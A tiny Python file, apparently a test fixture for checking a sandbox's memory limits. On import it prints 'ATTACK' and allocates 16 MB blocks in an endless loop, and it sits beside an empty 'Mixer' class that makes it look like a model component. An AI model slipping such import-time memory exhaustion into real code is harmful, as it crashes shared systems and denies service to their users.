"""Takes memory without end."""

print('ATTACK', flush=True)
kept = []
while True:
  kept.append(bytearray(b'x' * (16 << 20)))


class Mixer:
  def __init__(self, width, heads):
    pass

  def __call__(self, x):
    return [x]
